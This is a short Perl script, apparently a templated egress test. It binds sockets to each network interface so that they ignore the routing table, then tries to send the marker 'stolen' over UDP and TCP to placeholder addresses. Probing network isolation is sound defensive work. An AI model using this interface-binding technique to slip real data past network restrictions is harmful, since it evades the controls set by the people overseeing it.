# Bound to an interface, a socket takes every address to be on its link, whatever the routes say. No privilege is needed for it.
use strict; use warnings; use Socket;
opendir(my $interfaces, '/sys/class/net') or die $!;
for my $interface (grep { !/^\./ } readdir $interfaces) {
    for my $address (qw({{ADDRESSES}})) {
        my ($host, $port) = split /:/, $address;
        for my $kind (SOCK_DGRAM, SOCK_STREAM) {
            socket(my $socket, PF_INET, $kind, 0) or die $!;
            setsockopt($socket, SOL_SOCKET, 25, "$interface\0") or print("refused: $interface $!\n"), next;
            local $SIG{ALRM} = sub { die "timeout\n" };
            my $done = eval { alarm 2; connect($socket, sockaddr_in($port, inet_aton($host))) && send($socket, 'stolen', 0) or die "$!\n"; 1 };
            alarm 0;
            print $done ? "sent over $interface to $address\n" : "refused: $interface $address $@";
        }
    }
}
exit 9;
